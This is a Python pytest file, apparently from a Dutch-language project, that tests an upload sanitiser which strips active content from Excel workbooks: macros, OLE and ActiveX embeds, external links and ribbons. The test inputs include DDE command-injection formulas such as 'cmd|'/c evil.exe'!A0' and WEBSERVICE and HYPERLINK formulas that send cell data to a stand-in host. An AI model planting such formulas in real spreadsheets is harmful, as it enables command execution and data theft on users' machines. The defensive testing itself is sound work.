"""What acts by itself in an Excel workbook is not stored."""

import pytest

from core.uploads import FileRefusedError, clean_upload
from tests.core.documents.office import (
    MICROSOFT,
    R,
    S,
    ooxml,
    relationship,
    relationships,
    sheet,
    stored,
    text_of,
    workbook,
)
from tests.forum.sample_files import picture

DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"


def cell(formula: str, value: str = "42") -> str:
    return f'<c r="A1"><f>{formula}</f><v>{value}</v></c>'


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c evil.exe'!A0",
        "MSEXCEL|'\\..\\evil.exe'!''",
        "+cmd|'/c evil'!A1",
        "'cmd'|'/c evil'!A1",
        "1+DDE(&quot;evil&quot;,&quot;b&quot;,&quot;c&quot;)",
        "[1]Blad!evil",
        "'[evil.xlsx]Mijn blad'!A1",
        "'https://evil.example/[a.xlsx]Blad'!A1",
        "[evil.xlsx]Blad!A1",
        "_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A2)",
        "WebService (&quot;https://evil.example&quot;)",
        "_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)",
        "RTD(&quot;evil&quot;,,&quot;x&quot;)",
        "CALL(&quot;evil&quot;,&quot;b&quot;)",
        "REGISTER.ID(&quot;evil&quot;)",
        "EXEC(&quot;evil&quot;)",
        "CUBEVALUE(&quot;evil&quot;)",
        "_xlfn._xlws.PY(&quot;evil&quot;)",
        "HYPERLINK(&quot;file://evil/share&quot;,&quot;x&quot;)",
        "HYPERLINK(&quot;javascript:evil()&quot;)",
        "HYPERLINK(&quot;https://evil.example/?&quot;&amp;A2,&quot;x&quot;)",
        "HYPERLINK(A2)",
        "IF(1,HYPERLINK(&quot;\\\\evil\\share&quot;),2)",
    ],
)
def test_a_formula_that_reaches_outside_becomes_its_value(formula: str) -> None:
    page = stored("xlsx", sheet(cell(formula)))["xl/worksheets/sheet1.xml"]
    assert b"evil" not in page
    assert b"<f>" not in page
    assert b"<v>42</v>" in page


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A2:A9)*2",
        "'Mijn blad'!A1&amp;&quot;|&quot;",
        "IF(A1=&quot;[x]!|&quot;,{1,2;3,4},&quot;it''s&quot;)",
        "VLOOKUP(&quot;x&quot;,Tabel1[[#All],[naam]:[aantal]],2,FALSE)",
        "Tabel1[[#This Row],[aantal]]",
        "SUM(Tabel1[aantal])",
        "_xlfn.XLOOKUP(1,A1:C1,A2:C2)",
        "_xlfn._xlws.FILTER(A1:C1,A1:C1&gt;1)",
        "HYPERLINK(&quot;https://www.vng.nl/a?b=c&quot;,&quot;VNG&quot;)",
        "HYPERLINK(&quot;#Blad!A1&quot;,&quot;terug&quot;)",
        "IMAGINARY(&quot;1+i&quot;)",
    ],
)
def test_a_formula_of_the_sheet_itself_stays(formula: str) -> None:
    page = stored("xlsx", sheet(cell(formula)))["xl/worksheets/sheet1.xml"].decode()
    assert page.count("<f>") == 1
    assert "<v>42</v>" in page


def test_a_shared_formula_is_removed_from_every_cell() -> None:
    rows = (
        '<c r="A1"><f t="shared" si="0" ref="A1:A2">cmd|evil!A1</f><v>1</v></c>'
        '<c r="A2"><f t="shared" si="0"/><v>2</v></c>'
        '<c r="A3"><f t="shared" si="1" ref="A3:A4">B3</f><v>3</v></c>'
    )
    page = stored("xlsx", sheet(rows))["xl/worksheets/sheet1.xml"]
    assert page.count(b"<f ") == 1
    assert page.count(b"<v>") == 3


@pytest.mark.parametrize("name", ["conditionalFormatting", "dataValidations"])
def test_a_rule_that_reaches_outside_is_removed(name: str) -> None:
    rule = {
        "conditionalFormatting": "<cfRule><formula>{}</formula></cfRule>",
        "dataValidations": "<dataValidation><formula1>{}</formula1></dataValidation>",
    }[name]
    for formula, is_kept in (("cmd|evil!A1", False), ("A1&gt;5", True)):
        sent = sheet("", f"<{name}>{rule.format(formula)}</{name}>")
        page = stored("xlsx", sent)["xl/worksheets/sheet1.xml"]
        assert (name.encode() in page) is is_kept


@pytest.mark.parametrize(
    ("body", "kind", "target"),
    [
        ('<oleObjects><oleObject r:id="x"/></oleObjects>', "oleObject", "evil.bin"),
        ('<oleObjects><oleObject r:id="x"/></oleObjects>', "package", "evil.docx0"),
        ('<controls><control r:id="x" name="c"/></controls>', "control", "evil.x"),
        ('<tableParts><tablePart r:id="x"/></tableParts>', "queryTable", "evil.q"),
        ('<webPublishItems><webPublishItem id="1"/></webPublishItems>', "x", "evil.x"),
        (
            '<customProperties><customPr name="a" r:id="x"/></customProperties>',
            "customProperty",
            "evil.x",
        ),
        ("", "ctrlProp", "evil.x"),
        ("", "activeXControl", "evil.x"),
    ],
    ids=["OLE", "package", "ActiveX", "query", "publish", "property", "prop", "part"],
)
def test_what_is_run_or_read_in_is_removed(body: str, kind: str, target: str) -> None:
    sent = sheet(
        cell("A2"),
        body,
        relationship("x", kind, f"../embeddings/{target}"),
        parts={f"xl/embeddings/{target}": "<evil/>"},
    )
    parts = stored("xlsx", sent)
    assert "evil" not in text_of(parts)
    page = parts["xl/worksheets/sheet1.xml"]
    assert b'"x"' not in page
    for name in (b"oleObject", b"<control", b"tablePart", b"webPublish", b"customPr"):
        assert name not in page


@pytest.mark.parametrize("base", [R, MICROSOFT])
def test_links_connections_and_web_extensions_of_a_workbook_are_left_out(
    base: str,
) -> None:
    book = (
        f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Blad" sheetId="1" '
        'r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/>'
        "</externalReferences><definedNames>"
        "<definedName name='Buiten'>[1]Blad!evil</definedName>"
        "<definedName name='_xlnm.Auto_Open'>Blad!$A$1+0*evil</definedName>"
        "<definedName name='m' vbProcedure='1'>evil</definedName>"
        "<definedName name='Binnen'>Blad!$A$1</definedName></definedNames></workbook>"
    )
    kinds = (
        "externalLink",
        "connections",
        "customXml",
        "webextension",
        "volatileDependencies",
        "attachedToolbars",
        "vbaProject0",
        "queryTable",
    )
    sent = workbook(
        book,
        *(
            relationship(f"rId{number}", kind, f"other/evil{number}.xml", base=base)
            for number, kind in enumerate(kinds, 2)
        ),
        parts={f"xl/other/evil{number}.xml": "<evil/>" for number in range(2, 10)},
    )
    parts = stored("xlsx", sent)
    assert "evil" not in text_of(parts)
    assert b"Binnen" in parts["xl/workbook.xml"]
    assert b"externalReference" not in parts["xl/workbook.xml"]


@pytest.mark.parametrize("kind", ["xlMacrosheet", "xlIntlMacrosheet", "dialogsheet"])
def test_sheets_of_macros_are_refused(kind: str) -> None:
    sent = sheet(
        "",
        parts={
            "xl/_rels/workbook.xml.rels": relationships(
                relationship("rId1", "worksheet", "worksheets/sheet1.xml"),
                relationship("rId2", kind, "sheets/a.xml", base=MICROSOFT),
            ),
            "xl/sheets/a.xml": "<a/>",
        },
    )
    with pytest.raises(FileRefusedError, match="macro"):
        clean_upload("a.xlsx", sent)


def test_a_macro_sheet_that_calls_itself_a_sheet_is_known_by_its_type() -> None:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxml'
        'formats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.ms-excel.m&#97;cro'
        'sheet+xml"/></Types>'
    )
    with pytest.raises(FileRefusedError, match="macro"):
        clean_upload("a.xlsx", sheet("", parts={"[Content_Types].xml": types}))


def test_ribbons_of_a_workbook_are_left_out() -> None:
    sent = sheet(
        "",
        parts={
            "_rels/.rels": relationships(
                relationship("rId1", "officeDocument", "xl/workbook.xml"),
                relationship("b", "ui/extensibility", "customUI/a.xml", base=MICROSOFT),
                relationship("c", "webextensiontaskpanes", "we/a.xml", base=MICROSOFT),
            ),
            "customUI/a.xml": '<customUI onLoad="evil"/>',
            "we/a.xml": "<taskpanes evil='1'/>",
        },
    )
    parts = stored("xlsx", sent)
    assert not [name for name in parts if name.startswith(("customUI", "we/"))]
    assert "evil" not in text_of(parts)


@pytest.mark.parametrize(
    "target", ["file:///evil.exe", r"\\evil\a", "javascript:evil()", "evil.xlsx"]
)
def test_a_cell_is_no_link_to_a_file(target: str) -> None:
    sent = sheet(
        cell("A2"),
        '<hyperlinks><hyperlink ref="A1" r:id="x"/></hyperlinks>',
        relationship("x", "hyperlink", target, mode="External"),
    )
    parts = stored("xlsx", sent)
    assert "evil" not in text_of(parts)
    assert b"hyperlink" not in parts["xl/worksheets/sheet1.xml"]


def test_a_button_keeps_its_look_and_loses_its_macro() -> None:
    sent = sheet(
        "",
        '<legacyDrawing r:id="v"/><drawing r:id="d"/>',
        relationship("v", "vmlDrawing", "../drawings/v.vml"),
        relationship("d", "drawing", "../drawings/d.xml"),
        parts={
            "xl/drawings/v.vml": (
                '<xml xmlns:v="urn:schemas-microsoft-com:vml" '
                'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape '
                'href="file://evil/a"><v:textbox><div>knop<br></div></v:textbox>'
                "<x:ClientData><x:FmlaMacro>evil</x:FmlaMacro></x:ClientData>"
                "</v:shape></xml>"
            ),
            "xl/drawings/d.xml": (
                f'<d:wsDr xmlns:d="{DRAWING}"><d:sp macro="evil"><d:t>vorm</d:t></d:sp>'
                "</d:wsDr>"
            ),
        },
    )
    parts = stored("xlsx", sent)
    assert "evil" not in text_of(parts)
    assert b"knop" in parts["xl/drawings/v.vml"]
    assert b"vorm" in parts["xl/drawings/d.xml"]


def test_a_pivot_table_of_outside_data_is_refused_in_words_of_its_own() -> None:
    sent = workbook(
        f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Blad" sheetId="1" '
        'r:id="rId1"/></sheets><pivotCaches><pivotCache cacheId="1" r:id="p"/>'
        "</pivotCaches></workbook>",
        relationship("p", "pivotCacheDefinition", "pivotCache/p.xml"),
        parts={
            "xl/pivotCache/p.xml": (
                f'<pivotCacheDefinition xmlns="{S}"><cacheSource type="external" '
                'connectionId="1"/></pivotCacheDefinition>'
            )
        },
    )
    with pytest.raises(FileRefusedError, match="database"):
        clean_upload("a.xlsx", sent)


def test_a_harmless_workbook_stays_as_it_is() -> None:
    """Formulas, links, pictures, charts, tables, comments, names and pivot tables."""
    image, numbers = picture(), ooxml("xlsx", f'<workbook xmlns="{S}"/>')
    book = (
        f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Blad" sheetId="1" '
        'r:id="rId1"/></sheets><definedNames><definedName name="Naam">Blad!$A$1'
        "</definedName></definedNames><pivotCaches>"
        '<pivotCache cacheId="1" r:id="p"/></pivotCaches></workbook>'
    )
    rest = (
        '<mergeCells count="1"><mergeCell ref="A2:B2"/></mergeCells>'
        '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>A1&gt;5'
        "</formula></cfRule></conditionalFormatting><dataValidations count='1'>"
        '<dataValidation type="list"><formula1>"a,b"</formula1></dataValidation>'
        '</dataValidations><hyperlinks><hyperlink ref="A1" r:id="web"/>'
        '<hyperlink ref="A2" location="Blad!A1"/></hyperlinks><drawing r:id="d"/>'
        '<legacyDrawing r:id="v"/><tableParts count="1"><tablePart r:id="t"/>'
        "</tableParts>"
    )
    sent = workbook(
        book,
        relationship("s", "sharedStrings", "sharedStrings.xml"),
        relationship("y", "styles", "styles.xml"),
        relationship("p", "pivotCacheDefinition", "pivotCache/p.xml"),
        rows=cell("SUM(A2:A3)") + '<c r="A2" t="s"><v>0</v></c>',
        rest=rest,
        sheet_rels=(
            relationship("web", "hyperlink", "https://www.vng.nl/a", mode="External"),
            relationship("d", "drawing", "../drawings/d.xml"),
            relationship("v", "vmlDrawing", "../drawings/v.vml"),
            relationship("t", "table", "/xl/tables/t.xml"),
            relationship("c", "comments", "../comments1.xml"),
            relationship("tc", "threadedComment", "../threaded.xml"),
        ),
        parts={
            "xl/sharedStrings.xml": f'<sst xmlns="{S}"><si><t>cmd|x</t></si></sst>',
            "xl/styles.xml": f'<styleSheet xmlns="{S}"/>',
            "xl/pivotCache/p.xml": (
                f'<pivotCacheDefinition xmlns="{S}"><cacheSource type="worksheet">'
                '<worksheetSource ref="A1:B2" sheet="Blad"/></cacheSource>'
                "</pivotCacheDefinition>"
            ),
            "xl/tables/t.xml": f'<table xmlns="{S}" id="1" name="Tabel1" ref="A1:B2"/>',
            "xl/comments1.xml": f'<comments xmlns="{S}"><t>opmerking</t></comments>',
            "xl/threaded.xml": "<ThreadedComments>gesprek</ThreadedComments>",
            "xl/drawings/v.vml": "<xml>hoek</xml>",
            "xl/drawings/d.xml": (
                f'<d:wsDr xmlns:d="{DRAWING}" xmlns:r="{R}"><d:pic r:embed="i"/>'
                f'<c:chart xmlns:c="{CHART}" r:id="c"/></d:wsDr>'
            ),
            "xl/drawings/_rels/d.xml.rels": relationships(
                relationship("i", "image", "../media/image1.png"),
                relationship("c", "chart", "../charts/c.xml"),
            ),
            "xl/media/image1.png": image,
            "xl/charts/c.xml": (
                f'<c:chartSpace xmlns:c="{CHART}" xmlns:r="{R}"><c:f>Blad!$A$1</c:f>'
                '<c:externalData r:id="n"/></c:chartSpace>'
            ),
            "xl/charts/_rels/c.xml.rels": relationships(
                relationship("n", "package", "../embeddings/n.xlsx")
            ),
            "xl/embeddings/n.xlsx": numbers,
        },
    )
    parts = stored("xlsx", sent)
    page = parts["xl/worksheets/sheet1.xml"].decode()
    for kept in ("mergeCell ", "cfRule", '"a,b"', 'r:id="web"', 'location="Blad!A1"'):
        assert kept in page
    for ident in ("d", "v", "t"):
        assert f'r:id="{ident}"' in page
    assert "<f>SUM(A2:A3)</f>" in page
    assert b"Naam" in parts["xl/workbook.xml"]
    assert b"cmd|x" in parts["xl/sharedStrings.xml"]  # a text, no formula
    assert b"externalData" in parts["xl/charts/c.xml"]
    assert b"Blad!$A$1" in parts["xl/charts/c.xml"]
    assert parts["xl/media/image1.png"] == image
    assert {
        *("xl/comments1.xml", "xl/threaded.xml", "xl/tables/t.xml"),
        *("xl/styles.xml", "xl/pivotCache/p.xml", "xl/embeddings/n.xlsx"),
    } <= set(parts)


def test_a_chart_of_another_book_shows_the_values_it_has() -> None:
    chart = (
        f'<c:chartSpace xmlns:c="{CHART}" xmlns:r="{R}"><c:f>[evil.xlsx]A!B1</c:f>'
        '<c:v>7</c:v><c:externalData r:id="n"/></c:chartSpace>'
    )
    sent = sheet(
        "",
        '<drawing r:id="d"/>',
        relationship("d", "drawing", "../drawings/d.xml"),
        parts={
            "xl/drawings/d.xml": f'<d:wsDr xmlns:d="{DRAWING}"/>',
            "xl/drawings/_rels/d.xml.rels": relationships(
                relationship("c", "chart", "../charts/c.xml")
            ),
            "xl/charts/c.xml": chart,
            "xl/charts/_rels/c.xml.rels": relationships(
                relationship("n", "externalLink", "file:///evil", mode="External")
            ),
        },
    )
    parts = stored("xlsx", sent)
    assert "evil" not in text_of(parts)
    assert b"externalData" not in parts["xl/charts/c.xml"]
    assert b"<c:v>7</c:v>" in parts["xl/charts/c.xml"]
